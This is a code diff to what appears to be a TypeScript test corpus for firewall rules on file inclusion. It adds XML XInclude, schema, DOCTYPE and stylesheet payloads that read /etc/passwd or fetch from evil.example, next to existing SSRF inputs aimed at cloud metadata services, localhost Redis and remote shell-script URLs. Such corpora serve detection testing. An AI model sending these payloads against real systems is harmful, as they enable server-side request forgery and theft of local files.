@@ -1,4 +1,4 @@
-import { each, inCookie, inFileName, inForm, inJson, inList, inPath, inQuery, type Sent } from "../request";
+import { each, inCookie, inFileName, inForm, inJson, inList, inPath, inQuery, inXml, type Sent } from "../request";
 
 /** Files that are not the client's, of this machine (930) and of others (931). */
 export const files: Sent[] = [
@@ -24,6 +24,11 @@ export const files: Sent[] = [
   // Of the machine itself, and of its cloud.
   ...each("931", inJson, [
     "http://169.254.169.254/metadata/v1/user-data", "http://metadata.google.internal/", "http://[::1]:8000/", "http://localhost:6379/", "http://2130706433/", "http://0x7f000001/", "gopher://127.0.0.1:6379/_x", "http://a@127.0.0.1/", "\\\\::1\\c$\\users\\default\\ntuser.dat", "netdoc:///etc/x",
+  ]),
+  // Documents that are put together from others.
+  ...each("931", inXml, [
+    '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></a>', "<a><b xmlns='http://www.w3.org/2001/XInclude' href='http://10.0.0.1/'/></a>",
+    '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:include schemaLocation="http://evil.example/a"/></xs:schema>', '<!DOCTYPE a SYSTEM "http://evil.example/a"><a/>', '<?xml version="1.0"?><?xml-stylesheet href="http://evil.example/a.xsl" type="text/xsl"?><a/>',
   ]),
   ...each("931", inForm, ["http://203.0.113.77/c99.txt?"]),
   ...each("931", inJson, ["https://203.0.113.9/payload?"]),
